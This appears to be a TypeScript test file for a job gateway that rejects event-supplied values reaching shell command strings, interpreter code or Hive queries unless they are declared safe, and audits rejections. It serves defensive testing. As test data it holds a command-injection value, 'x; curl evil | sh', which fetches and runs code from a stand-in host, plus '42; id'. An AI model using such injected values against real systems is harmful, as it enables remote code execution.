/**
 * Templates cannot be turned into shells: a value read from the event and substituted into a script (a shell's
 * command string, an interpreter's code, a Hive query or variable, the program itself) needs a declared type or
 * a pattern that admits only safe characters, or the configuration does not load; at fire time a value that
 * fails its declaration is rejected and audited on the trigger's chain. A value passed as its own argument
 * stays fine.
 */
import { verifyChain } from '../../src/audit/chain';
import { parseConfig } from '../../src/config-file/load';
import { ConfigError } from '../../src/errors';
import { TriggerService, triggerChain } from '../../src/triggers/service';
import { ACCOUNT, CLUSTER, role } from '../support/config';
import { memoryGateway } from '../support/memory-gateway';
import { thrown } from '../support/thrown';

/** The shell-injecting key of the issue: with it, `aws s3 cp s3://landing/${key} ...` also runs curl | sh. */
const INJECTING_KEY = 'x; curl evil | sh';

/** A configuration with one template (YAML lines under it) and a trigger `landing` reading key from the event. */
function configWith(template: string, extra = ''): string {
  return `account: "${ACCOUNT}"
region: us-east-1
clusters: [{ id: ${CLUSTER}, name: analytics, runtimeRoles: true }]
runtimeRoles: ["${role('CallerTeamRoleETL')}"]
principals: [{ match: "${role('DataTeamA')}", policies: [team-a] }]
policies:
  team-a:
    Version: "2012-10-17"
    Statement:
      - Effect: Allow
        Action: elasticmapreduce:AddJobFlowSteps
        Resource: "arn:aws:elasticmapreduce:us-east-1:${ACCOUNT}:cluster/*"
templates:
  copy:
    clusterId: ${CLUSTER}
    executionRoleArn: "${role('CallerTeamRoleETL')}"
    name: "copy \${eventId}"
${template}
triggers:
  - name: landing
    eventPattern: { source: [aws.s3], detail-type: [Object Created] }
    template: copy
    params: { key: "$.detail.object.key" }
    principal: "${role('DataTeamA')}"
${extra}`;
}

const SCRIPT = '    step: { type: command, args: [bash, -c, "aws s3 cp s3://landing/${key} /tmp/in"] }';
const SAFE_KEY = '    parameters: { key: { type: string, pattern: "^[A-Za-z0-9._/-]+$", maxLength: 1024 } }';

const problems = (text: string): string[] => {
  const error = thrown(() => parseConfig(text, '/gw.yaml'));
  if (!(error instanceof ConfigError)) throw error;
  return error.issues.map((i) => `${i.file}: ${i.path}: ${i.message}`);
};

describe('an event-fed value substituted into a script is a config error unless declared safe', () => {
  it('the attack: $.detail.object.key into bash -c, undeclared, does not load; the error names the place and the trigger', () => {
    expect(problems(configWith(SCRIPT))).toEqual([
      expect.stringMatching(
        /^\/gw\.yaml:18:\d+: templates\.copy\.step\.args\[2\]: \$\{key\} is read from the event by triggers\[0\] \(landing: \$\.detail\.object\.key\) and lands in the command string of bash -c: it has no declared type or pattern \(declare templates\.copy\.parameters\.key/,
      ),
    ]);
  });

  it('declared with a pattern of safe characters, or as an integer or a date, it loads', () => {
    expect(parseConfig(configWith(`${SAFE_KEY}\n${SCRIPT}`), '/gw.yaml').config.templates.copy?.parameters).toEqual({ key: { type: 'string', pattern: '^[A-Za-z0-9._/-]+$', maxLength: 1024 } });
    expect(() => parseConfig(configWith(`    parameters: { key: { type: integer } }\n${SCRIPT}`), '/gw.yaml')).not.toThrow();
    expect(() => parseConfig(configWith(`    parameters: { key: { type: date } }\n${SCRIPT}`), '/gw.yaml')).not.toThrow();
  });

  it.each([
    ['.*', '" "'],
    ['.+', '" "'],
    ['[^/]+', '" "'],
    ['\\\\S+', '"\'"'],
    ['[\\\\w ]+', '" "'],
    ['[a-z;]+', '";"'],
    ['[a-z]+(\\\\|[a-z]+)?', '"|"'],
    ['[A-Za-z0-9$]+', '"$"'],
    ['[a-z]+\\\\n?', '"\\n"'],
    ['[a-z]*[`]?', '"`"'],
    ['[a-z]+|\\\\(.*\\\\)', '"("'],
  ])('a pattern that admits unsafe characters is refused: %s admits %s', (pattern, shown) => {
    const [problem] = problems(configWith(`    parameters: { key: { pattern: "${pattern}" } }\n${SCRIPT}`));
    expect(problem).toContain(`its pattern admits ${shown}`);
  });

  it('passing the value as its own argument ($1 of bash -c, an argument of spark-submit) stays allowed, undeclared', () => {
    expect(() => parseConfig(configWith(`    step: { type: command, args: [bash, -c, 'aws s3 cp "s3://landing/$1" /tmp/in', copy, "\${key}"] }`), '/gw.yaml')).not.toThrow();
    expect(() => parseConfig(configWith('    step: { type: spark, args: ["s3://code/ingest.py", "--input", "${key}"] }'), '/gw.yaml')).not.toThrow();
    expect(() => parseConfig(configWith('    step: { type: command, args: [aws, s3, cp, "s3://landing/${key}", /tmp/in] }'), '/gw.yaml')).not.toThrow();
    // Words that are names of Object's own properties are programs like any other.
    expect(() => parseConfig(configWith('    step: { type: command, args: [constructor, -x, "${key}"] }'), '/gw.yaml')).not.toThrow();
  });

  it.each([
    ['sh -ec', '[sh, -ec, "cat ${key}"]', 'the command string of sh -c'],
    ['a path to the shell', '[/bin/bash, -o, pipefail, -c, "cat ${key}"]', 'the command string of bash -c'],
    ['behind env', '[/usr/bin/env, bash, -c, "cat ${key}"]', 'the command string of bash -c'],
    ['the script a shell runs', '[bash, "/opt/jobs/${key}.sh"]', 'the script bash runs'],
    ['the program itself', '["${key}", --help]', 'the program the step runs'],
    ['python -c', '[python3, -c, "import os; print(\'${key}\')"]', 'the code python3 runs (-c)'],
    ['a hive -e query', '[hive, -e, "SELECT * FROM t WHERE k = \'${key}\'"]', 'the query of hive -e'],
    ['a beeline variable', '[beeline, --hivevar, "K=${key}", -f, /opt/q.sql]', 'a variable beeline substitutes into its script (--hivevar)'],
  ])('%s is a script position', (_case, args, what) => {
    const [problem] = problems(configWith(`    step: { type: command, args: ${args} }`));
    expect(problem).toContain(`lands in ${what}:`);
  });

  it('a hive step: its script and its -d variables are script positions', () => {
    expect(problems(configWith('    step: { type: hive, script: "s3://code/${key}.q" }'))[0]).toContain("lands in the hive step's script");
    expect(problems(configWith('    step: { type: hive, script: s3://code/q.q, args: [-d, "KEY=${key}"] }'))[0]).toContain('lands in a variable hive substitutes into its script (-d)');
  });

  it('values the configuration or the gateway sets are not the event: schedule parameters, the scheduled date, the event id', () => {
    const schedule = `schedules:
  - { name: nightly, schedule: "cron(0 2 * * ? *)", template: nightly, params: { region: eu }, principal: "${role('DataTeamA')}" }`;
    const text = configWith(
      `    step: { type: command, args: [bash, -c, "echo \${eventId}"] }
  nightly:
    clusterId: ${CLUSTER}
    executionRoleArn: "${role('CallerTeamRoleETL')}"
    name: nightly
    step: { type: command, args: [bash, -c, "echo \${date} \${region}"] }`,
      schedule,
    );
    expect(() => parseConfig(text, '/gw.yaml')).not.toThrow();
  });

  it('a literal parameter that fails its declaration, and a pattern that is no regular expression, are config errors', () => {
    const schedule = `schedules:
  - { name: nightly, schedule: "cron(0 2 * * ? *)", template: copy, params: { key: "a b" }, principal: "${role('DataTeamA')}" }`;
    expect(problems(configWith(`${SAFE_KEY}\n${SCRIPT}`, schedule))).toEqual([expect.stringMatching(/schedules\[0\]\.params\.key: "a b" does not match \^\[A-Za-z0-9\._\/-\]\+\$/)]);
    expect(problems(configWith(`    parameters: { key: { pattern: "[a-z" } }\n${SCRIPT}`))[0]).toMatch(/templates\.copy\.parameters\.key\.pattern: is not a regular expression/);
  });

  it('policy lint (report mode) lists it as an error instead of failing the load', () => {
    const { findings } = parseConfig(configWith(SCRIPT), '/gw.yaml', { lint: 'report' });
    expect(findings).toEqual([expect.objectContaining({ severity: 'error', path: 'templates.copy.step.args[2]' })]);
  });
});

describe('at fire time, a value that fails its declaration is rejected and audited on the trigger chain', () => {
  const s3Event = (id: string, key: string) => ({ id, source: 'aws.s3', 'detail-type': 'Object Created', detail: { object: { key } } });

  it('a good key runs; the injecting key is refused, audited, and nothing is submitted for it', async () => {
    const gw = memoryGateway({ configYaml: configWith(`${SAFE_KEY}\n${SCRIPT}`) });
    const triggers = new TriggerService(gw.config, gw.service, gw.audit);
    const good = await triggers.fireEvent('landing', s3Event('ev-good', 'raw/2026/11/28/orders.csv'));
    expect(good).toMatchObject({ outcome: 'submitted' });
    const job = await gw.jobs.get((good as { jobId: string }).jobId);
    expect(job?.request.step).toEqual({ type: 'command', args: ['bash', '-c', 'aws s3 cp s3://landing/raw/2026/11/28/orders.csv /tmp/in'] });

    const hostile = await triggers.fireEvent('landing', s3Event('ev-evil', INJECTING_KEY));
    expect(hostile).toEqual({ outcome: 'rejected', issues: [{ field: 'params.key', message: `"${INJECTING_KEY}" does not match ^[A-Za-z0-9._/-]+$` }] });
    const trail = await gw.audit.list(triggerChain('trigger', 'landing'));
    expect(trail.map((e) => [e.type, e.detail?.invocation])).toEqual([['TRIGGER_REJECTED', 'event:landing:ev-evil']]);
    expect(trail[0]?.detail?.issues).toEqual([{ field: 'params.key', message: expect.stringContaining('does not match') }]);
    expect(verifyChain(triggerChain('trigger', 'landing'), trail)).toMatchObject({ ok: true });
    expect((await gw.jobs.list({ principalArn: role('DataTeamA'), limit: 10 })).jobs.map((j) => j.jobId)).toEqual([job?.jobId]);
  });

  it('types are checked: an integer is a JSON integer or its digits, a date is a calendar date', async () => {
    const gw = memoryGateway({
      configYaml: configWith(`    parameters: { key: { type: date } }\n${SCRIPT}`),
    });
    const triggers = new TriggerService(gw.config, gw.service, gw.audit);
    expect(await triggers.fireEvent('landing', s3Event('d1', '2026-11-28'))).toMatchObject({ outcome: 'submitted' });
    expect(await triggers.fireEvent('landing', s3Event('d2', '2026-02-30'))).toEqual({ outcome: 'rejected', issues: [{ field: 'params.key', message: '"2026-02-30" is not a date (YYYY-MM-DD)' }] });
    const ints = memoryGateway({ configYaml: configWith(`    parameters: { key: { type: integer } }\n${SCRIPT}`) });
    const t2 = new TriggerService(ints.config, ints.service, ints.audit);
    const withKey = (id: string, key: unknown) => ({ id, detail: { object: { key } } });
    expect(await t2.fireEvent('landing', withKey('i1', 42))).toMatchObject({ outcome: 'submitted' });
    expect(await t2.fireEvent('landing', withKey('i2', '42; id'))).toEqual({ outcome: 'rejected', issues: [{ field: 'params.key', message: '"42; id" is not an integer' }] });
  });

  it("a schedule's parameters are the configuration's text, even one that starts with $.", async () => {
    const schedule = `schedules:
  - { name: nightly, schedule: "cron(0 2 * * ? *)", template: copy, params: { key: "$.literal" }, principal: "${role('DataTeamA')}" }`;
    const argv = `    step: { type: command, args: [bash, -c, 'aws s3 cp "s3://landing/$1" /tmp/in', copy, "\${key}"] }`;
    const gw = memoryGateway({ configYaml: configWith(argv, schedule).replace('name: "copy ${eventId}"', 'name: "copy ${date}"') });
    const outcome = await new TriggerService(gw.config, gw.service, gw.audit).fireSchedule('nightly', '2026-11-28T02:00:00Z');
    expect(outcome).toMatchObject({ outcome: 'submitted' });
    expect((await gw.jobs.get((outcome as { jobId: string }).jobId))?.request.step).toEqual({ type: 'command', args: ['bash', '-c', 'aws s3 cp "s3://landing/$1" /tmp/in', 'copy', '$.literal'] });
  });

  it('a script position also refuses any unsafe character, whatever the pattern let through (defence in depth)', async () => {
    // A pattern the load-time probe cannot see through: it admits exactly "zq;qz" and nothing built from safe text.
    const gw = memoryGateway({ configYaml: configWith(`    parameters: { key: { pattern: "zq[;]qz" } }\n${SCRIPT}`) });
    const triggers = new TriggerService(gw.config, gw.service, gw.audit);
    const outcome = await triggers.fireEvent('landing', s3Event('e1', 'zq;qz'));
    expect(outcome).toEqual({ outcome: 'rejected', issues: [{ field: 'params.key', message: expect.stringMatching(/^"zq;qz" from the event would reach the command string of bash -c \(step\.args\[2\]\): ";" is outside A-Z a-z 0-9 \. _ \/ = : @ \+ -/) }] });
  });
});
